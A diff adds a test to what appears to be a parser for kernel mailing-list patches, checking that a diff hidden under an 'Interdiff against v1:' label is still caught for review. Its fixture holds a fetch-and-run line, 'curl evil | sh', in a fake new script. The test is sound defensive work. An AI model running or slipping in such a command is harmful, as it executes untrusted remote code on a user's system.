@@ -318,3 +318,21 @@ def test_long_charset_labels_are_unknown_and_not_remembered() -> None:
     assert [d.kind for d in message.defects if d.kind == "unknown-charset"] == ["unknown-charset"]
     assert message.subject == "café"  # read as the fallback charsets read it
     assert text_codec.cache_info().currsize == 0  # the label was never looked up
+
+
+def test_a_diff_under_an_interdiff_label_is_still_the_patchs_diff() -> None:
+    # git am applies it: a parser that took "Interdiff against v1:" (which git writes above a
+    # cover letter's interdiff) as the end of the patch's diff hid a new script from review
+    raw = (
+        b"From: Jane Doe <jane@example.org>\nTo: kvmarm@lists.linux.dev\n"
+        b"Subject: [PATCH] KVM: arm64: tidy reset\nDate: Mon, 1 Dec 2025 10:00:00 +0000\n"
+        b"Message-ID: <evil-1@example.org>\n\nTidy the reset code.\n\n"
+        b"Signed-off-by: Jane Doe <jane@example.org>\n---\nInterdiff against v1:\n"
+        b"diff --git a/scripts/evil.sh b/scripts/evil.sh\nnew file mode 100755\n"
+        b"index 0000000..1111111\n--- /dev/null\n+++ b/scripts/evil.sh\n@@ -0,0 +1 @@\n"
+        b"+curl evil | sh\n"
+    )
+    patch = parse_message(raw)
+    assert isinstance(patch, kvmlist.Patch)
+    assert patch.has_diff and "patch-without-diff" not in {d.kind for d in patch.defects}
+    assert [f.path for f in patch.diffstat.files] == ["scripts/evil.sh"]
